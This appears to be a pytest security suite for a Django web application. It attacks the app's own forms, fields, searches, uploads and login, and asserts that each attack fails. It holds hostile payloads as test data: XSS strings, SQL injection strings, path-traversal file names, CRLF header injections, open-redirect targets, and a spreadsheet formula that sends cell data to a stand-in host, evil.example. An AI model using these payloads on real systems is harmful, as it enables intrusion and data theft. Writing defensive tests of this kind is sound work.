"""The attack suite: each attack tried against every place it applies to (generated from the URL conf
and the registry where it can be), asserting that it fails. CSRF on every form, stored XSS in every
free-text field of every registered model (pages, exports, documents), SQL injection in every list's
search, filters and ordering, path traversal in uploads and downloads, open redirects, header injection,
brute force on the login page and the token endpoint, session fixation, and secrets in logs."""

import io
import logging
import re
from pathlib import Path

import pytest
from django.conf import settings as django_settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import models
from django.test import Client
from django.urls import reverse
from rest_framework.test import APIClient

from cloudmove.conftest import PASSWORD, api_client
from cloudmove.core import registry, scoping
from cloudmove.core.models import AuditRecord, User
from cloudmove.core.tests import isolation
from cloudmove.core.tests.test_isolation_matrix import body_text

SCRIPT = '<script>alert("xss")</script>'
ATTRIBUTE = '"><img src=x onerror=alert(1)>'
INJECTIONS = ["' OR '1'='1", '1 OR 1=1', "1; DROP TABLE core_unit; --", "') UNION SELECT password FROM core_user --",
              '%', '\\', '"', '-id,(SELECT 1)', 'name__regex=.*']


def page_endpoints(method):
    return [e for e in isolation.endpoints() if not e.api and method in e.methods]


# ---------------------------------------------------------------- CSRF


def test_every_form_refuses_a_post_without_the_csrf_token(tree, users, no_2fa):
    """A signed-in admin's browser tricked into posting to any page of the site: refused, nothing written."""
    client = Client(enforce_csrf_checks=True)
    client.force_login(users['admin'])
    tried = 0
    for endpoint in page_endpoints('post'):
        values = {a: (m.split('|')[0] if '.' not in m else 1) for a, m in endpoint.arguments.items()}
        url = reverse(endpoint.name, kwargs=values or None)
        before = AuditRecord.objects.count()
        response = client.post(url, {'name': 'x', 'confirm': '1', 'apply': '1'})
        assert response.status_code == 403, (url, response.status_code)
        assert AuditRecord.objects.count() == before, url
        tried += 1
    # The API with a session (a browser) needs it too; with a token (no cookie to ride on) it does not.
    response = client.post('/api/units/', {'code': 'X', 'name_vi': 'X', 'name_en': 'X'},
                           content_type='application/json')
    assert response.status_code == 403
    assert tried > 100


# ---------------------------------------------------------------- stored XSS


def _free_text_fields(config, data):
    out = []
    for field in config.model._meta.concrete_fields:
        if field.name in data and type(field) in (models.CharField, models.TextField) and not field.choices \
                and not getattr(field, 'unique', False) and field.name not in ('code', 'slug'):
            max_length = field.max_length or 1000
            if max_length >= len(SCRIPT + ATTRIBUTE) + 2:
                out.append(field.name)
    return out


SAMPLED = [c for c in registry.configs() if c.sample is not None]
ESCAPED = '&lt;script&gt;alert(&quot;xss&quot;)&lt;/script&gt;'


def test_stored_xss_in_every_free_text_field_is_shown_as_text(tree, users, api, web, capsys):
    """Every free-text field of every registered model holds a script and an attribute breaker: its pages
    (detail, list, edit form) show them as text, the API returns them as JSON data, the exports as cells."""
    client, attacked, models_tried = web('admin'), 0, 0
    for config in SAMPLED:
        data = config.sample(tree['a'], 5)
        fields = _free_text_fields(config, data)
        if not fields:
            continue
        for _attempt in range(4):  # a field with its own format (a URL, a period) refuses the text: left as it was
            hostile = dict(data, **{f: f'{f} {SCRIPT}{ATTRIBUTE}' for f in fields})
            response = api['admin'].post(f'/api/{config.get_api_prefix()}/', hostile, format='json')
            if response.status_code != 400:
                break
            refused = set(response.json()) & set(fields)
            assert refused, (config.model._meta.label, response.content)
            fields = [f for f in fields if f not in refused]
        assert response.status_code == 201 and fields, (config.model._meta.label, response.content)
        pk = response.json()['id']
        pages = [reverse(config.url_name('detail'), args=[pk]), reverse(config.url_name('list'))]
        if config.editable:
            pages.append(reverse(config.url_name('edit'), args=[pk]))
        shown = ''
        for url in pages:
            html = client.get(url).content.decode()
            assert '<script>alert' not in html and '<img src=x' not in html, url
            shown += html
        assert ESCAPED in shown, f'{config.model._meta.label}: the text is not shown at all'
        got = api['admin'].get(f'/api/{config.get_api_prefix()}/{pk}/')
        assert got['Content-Type'].startswith('application/json') and got.json()[fields[0]] == hostile[fields[0]]
        for fmt in ('csv', 'xlsx'):
            export = client.get(reverse(config.url_name('list')), {'export': fmt})
            assert export.status_code == 200 and not export['Content-Type'].startswith('text/html')
        attacked += len(fields)
        models_tried += 1
    with capsys.disabled():
        print(f'\nstored XSS: {attacked} free-text fields of {models_tried} models, each shown as text')
    assert models_tried >= len(SAMPLED) * 3 // 4 and attacked >= 80


def test_a_formula_in_a_field_is_not_run_by_the_spreadsheet(api, web, tree):
    from python_calamine import CalamineWorkbook

    from cloudmove.inventory.models import InformationSystem

    config = registry.get(InformationSystem)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
    data = dict(config.sample(tree['a'], 6), name=formula)
    assert api['admin'].post(f'/api/{config.get_api_prefix()}/', data, format='json').status_code == 201
    client = web('admin')
    csv_text = body_text(client.get(reverse(config.url_name('list')), {'export': 'csv'}))
    assert "'=HYPERLINK" in csv_text and ',=HYPERLINK' not in csv_text
    raw = client.get(reverse(config.url_name('list')), {'export': 'xlsx'})
    book = CalamineWorkbook.from_filelike(io.BytesIO(b''.join(raw.streaming_content) if raw.streaming else raw.content))
    cells = [c for row in book.get_sheet_by_index(0).to_python() for c in row]
    assert any(isinstance(c, str) and 'HYPERLINK' in c for c in cells)
    assert '<f>' not in body_text(client.get(reverse(config.url_name('list')), {'export': 'xlsx'}))


def test_xss_in_a_generated_document_stays_text(users, tree, no_2fa):
    """The Decree 30 report (.docx) and its annex (.xlsx) carry a unit's text as text."""
    from cloudmove.reporting.services import progress

    report = progress.draft(users['admin'], {'period': '2026-Q4', 'issuer': tree['a'],
                                             'subject': f'Báo cáo {SCRIPT}', 'results': f'Kết quả {ATTRIBUTE}'})
    document = _zip_text(progress.build(report, users['admin']))
    assert '<script>' not in document and '&lt;script&gt;' in document
    assert '<img src' not in document


def _zip_text(raw):
    import zipfile

    with zipfile.ZipFile(io.BytesIO(raw)) as z:
        return '\n'.join(z.read(n).decode('utf-8', 'replace') for n in z.namelist())


# ---------------------------------------------------------------- SQL injection


def test_sql_injection_in_search_filters_and_ordering_finds_nothing_more(tree, users, api, web):
    from cloudmove.inventory.models import InformationSystem

    config = registry.get(InformationSystem)
    for unit, n in ((tree['a'], 1), (tree['b'], 2)):
        api['admin'].post(f'/api/{config.get_api_prefix()}/', config.sample(unit, n), format='json')
    officer, ui = api['officer_a'], web('officer_a')
    mine = scoping.scope(InformationSystem.objects.all(), users['officer_a']).count()
    tried = 0
    for c in registry.configs():
        filters = ['q', 'ordering', 'sort', 'unit', 'page', 'page_size', 'per_page'] + list(c.filter_fields)
        for name in filters:
            for value in INJECTIONS:
                tried += 2
                response = officer.get(f'/api/{c.get_api_prefix()}/', {name: value})
                assert response.status_code in (200, 400, 404), (c.slug, name, value, response.status_code)
                page = ui.get(reverse(c.url_name('list')), {name: value})
                assert page.status_code in (200, 400, 404), (c.slug, name, value, page.status_code)
                if c.model is InformationSystem and response.status_code == 200:
                    assert response.json()['count'] <= mine, (name, value)
    assert User.objects.count() == len(users) and InformationSystem.objects.count() >= 2  # nothing dropped
    assert tried > 1000


# ---------------------------------------------------------------- uploads and downloads


@pytest.fixture
def system_a(tree, api):
    from cloudmove.inventory.models import InformationSystem

    config = registry.get(InformationSystem)
    response = api['admin'].post(f'/api/{config.get_api_prefix()}/', config.sample(tree['a'], 1), format='json')
    return InformationSystem.objects.get(pk=response.json()['id'])


@pytest.mark.parametrize('name', ['../../../../etc/passwd.pdf', '..\\..\\..\\windows\\win.ini.pdf',
                                  '/etc/cron.d/evil.pdf', 'so-do\r\nX-Injected: 1.pdf', 'a"; filename=evil.exe.pdf',
                                  '%2e%2e%2f%2e%2e%2fsecret.pdf', 'tên tệp ☃.pdf'])
def test_a_hostile_file_name_stays_inside_the_media_folder_and_out_of_the_headers(name, web, system_a, settings):
    from cloudmove.inventory.services import attachments

    client = web('officer_a')
    # Through the service the upload view calls: the test client cannot put such a name in a multipart body.
    attachment = attachments.attach(web.user, system_a, SimpleUploadedFile(name, b'%PDF-1.4\n%\xe2\xe3\n'), 'network')
    media = Path(settings.MEDIA_ROOT).resolve()
    stored = (media / attachment.file.name).resolve()
    assert stored.is_relative_to(media) and stored.exists()
    assert '..' not in attachment.file.name and '\r' not in attachment.filename and '\n' not in attachment.filename
    response = client.get(reverse('inventory:attachment_download', args=[attachment.pk]))
    assert response.status_code == 200
    header = response['Content-Disposition']
    assert header.startswith('attachment;') and '\r' not in header and '\n' not in header
    assert 'X-Injected' not in response.headers
    assert re.fullmatch(r'attachment; filename="[^"\\]*"(; filename\*=UTF-8\'\'[A-Za-z0-9%._~-]+)?', header), header


def test_media_files_are_not_served_from_a_url(web, system_a):
    client = web('admin')
    url = reverse('inventory:attachment_upload', args=['informationsystem', system_a.pk])
    client.post(url, {'file': SimpleUploadedFile('a.pdf', b'%PDF-1.4\n'), 'kind': 'network'})
    from cloudmove.inventory.models import Attachment

    name = Attachment.objects.get().file.name
    for path in (f'/media/{name}', f'/static/../media/{name}', f'/static/..%2fmedia/{name}',
                 '/static/../../etc/passwd'):
        response = client.get(path)
        assert response.status_code == 404, path


def test_downloads_name_objects_by_id_only(web):
    """No view takes a file path: every download is an id checked against the scope."""
    for endpoint in isolation.endpoints():
        for arg in endpoint.arguments:
            assert arg not in ('path', 'file', 'filename', 'name'), endpoint


# ---------------------------------------------------------------- redirects and headers


EVIL = ['https://evil.example/', '//evil.example/', '/\\evil.example', 'http:/evil.example', '\\\\evil.example',
        'javascript:alert(1)', ' https://evil.example', 'https:evil.example', '/%09/evil.example']


@pytest.mark.parametrize('target', EVIL)
def test_next_never_leaves_the_site(target, users, client, no_2fa):
    response = client.post(reverse('core:login') + f'?next={target}', {'username': 'officer_a', 'password': PASSWORD})
    assert response.status_code == 302 and _on_site(response['Location']), response['Location']
    for name in ('core:login', 'core:set_language'):
        response = client.post(reverse(name), {'next': target, 'language': 'en'})
        if response.status_code in (301, 302):
            assert _on_site(response['Location']), (name, response['Location'])
    client.force_login(users['admin'])
    config = registry.configs()[0]
    response = client.post(reverse(config.url_name('bulk_delete')), {'next': target, 'confirm': '1'})
    assert _on_site(response['Location'])


def _on_site(location):
    if any(ord(ch) < 32 for ch in location):  # browsers drop tabs and newlines: '/\t/evil' is '//evil'
        return False
    return location.startswith('/') and not location.startswith(('//', '/\\')) and '\\' not in location[:3]


@pytest.mark.parametrize('value', ['/x\r\nSet-Cookie: sessionid=evil', '/x%0d%0aSet-Cookie:%20sessionid=evil',
                                   '/x\nLocation: https://evil.example'])
def test_no_header_can_be_injected(value, users, client, no_2fa, settings):
    # In the form body, where the control characters arrive as sent (a URL would lose them on the way).
    response = client.post(reverse('core:login'), {'username': 'officer_a', 'password': PASSWORD, 'next': value})
    assert response.status_code == 302
    location = response['Location']  # a target with control characters is not followed; an encoded one stays encoded
    assert location == '/' or (_on_site(location) and '%0d%0a' in location), location
    assert 'evil' not in response.cookies['sessionid'].value
    response = client.get('/', HTTP_ACCEPT_LANGUAGE='vi\r\nX-Injected: 1')
    assert 'X-Injected' not in response.headers


# ---------------------------------------------------------------- brute force and sessions


def test_brute_force_on_the_token_endpoint_locks_the_account(users):
    api = APIClient()
    for _ in range(django_settings.AXES_FAILURE_LIMIT):
        api.post('/api/auth/token/', {'username': 'officer_b', 'password': 'guess'}, format='json')
    assert api.post('/api/auth/token/', {'username': 'officer_b', 'password': PASSWORD}, format='json'
                    ).status_code == 403
    assert Client().post(reverse('core:login'), {'username': 'officer_b', 'password': PASSWORD}).status_code == 403


def test_a_session_fixed_before_sign_in_is_not_the_one_after(users, no_2fa):
    client = Client()
    client.get(reverse('core:login'))
    client.cookies['sessionid'] = 'attacker-chosen-session-key'
    fixed = client.session.session_key
    client.post(reverse('core:login'), {'username': 'officer_a', 'password': PASSWORD})
    after = client.cookies['sessionid'].value
    assert after and after not in (fixed, 'attacker-chosen-session-key')
    private = reverse('core:notifications')
    assert client.get(private).status_code == 200
    attacker = Client()
    attacker.cookies['sessionid'] = 'attacker-chosen-session-key'
    assert attacker.get(private).status_code == 302  # not signed in: to the login page
    client.post(reverse('core:logout'))
    stolen = Client()
    stolen.cookies['sessionid'] = after
    assert stolen.get(private).status_code == 302


def test_passwords_and_tokens_never_reach_the_logs_or_the_trail(users, caplog, no_2fa):
    caplog.set_level(logging.DEBUG)
    client = Client()
    client.post(reverse('core:login'), {'username': 'officer_a', 'password': 'Wrong-Secret-123!'})
    client.post(reverse('core:login'), {'username': 'officer_a', 'password': PASSWORD})
    api = APIClient()
    response = api.post('/api/auth/token/', {'username': 'officer_b', 'password': PASSWORD}, format='json')
    key = response.json()['token']
    token_client = APIClient()
    token_client.credentials(HTTP_AUTHORIZATION=f'Token {key}')
    token_client.get('/api/units/')
    token_client.get('/api/no-such-endpoint/')
    APIClient(HTTP_AUTHORIZATION='Token not-a-real-token-value-42').get('/api/units/')
    api_client(users['admin']).post('/api/users/', {'username': 'newcomer', 'password': 'N3w-Passw0rd-Long!',
                                                     'role': 'leader', 'full_name': 'N'}, format='json')
    logged = '\n'.join(r.getMessage() + ' ' + str(getattr(r, 'args', '')) for r in caplog.records)
    trail = ' '.join(str(r.before) + str(r.after) + r.username for r in AuditRecord.objects.all())
    for secret in (PASSWORD, 'Wrong-Secret-123!', key, 'not-a-real-token-value-42', 'N3w-Passw0rd-Long!'):
        assert secret not in logged and secret not in trail, secret
    assert all('pbkdf2' not in str(r.after) and 'key_hash' not in str(r.after) for r in AuditRecord.objects.all())


# ---------------------------------------------------------------- headers of every page kind


def test_security_headers_on_pages_api_and_downloads(users, web, system_a):
    client = web('officer_a')
    url = reverse('inventory:attachment_upload', args=['informationsystem', system_a.pk])
    client.post(url, {'file': SimpleUploadedFile('a.pdf', b'%PDF-1.4\n'), 'kind': 'network'})
    from cloudmove.inventory.models import Attachment

    responses = [client.get('/'), client.get('/api/units/'),
                 client.get(reverse('inventory:attachment_download', args=[Attachment.objects.get().pk])),
                 client.get(reverse(registry.get(type(system_a)).url_name('list')), {'export': 'csv'})]
    for response in responses:
        assert response['X-Content-Type-Options'] == 'nosniff'
        assert response['X-Frame-Options'] == 'DENY'
        assert response['Referrer-Policy'] == 'same-origin'
        assert response['Cross-Origin-Opener-Policy'] == 'same-origin'
    csp = responses[0]['Content-Security-Policy']
    assert "default-src 'self'" in csp and "'unsafe-inline'" not in csp.split('script-src')[-1].split(';')[0]
    assert "frame-ancestors 'none'" in csp or responses[0]['X-Frame-Options'] == 'DENY'
    assert responses[2]['Content-Disposition'].startswith('attachment;')
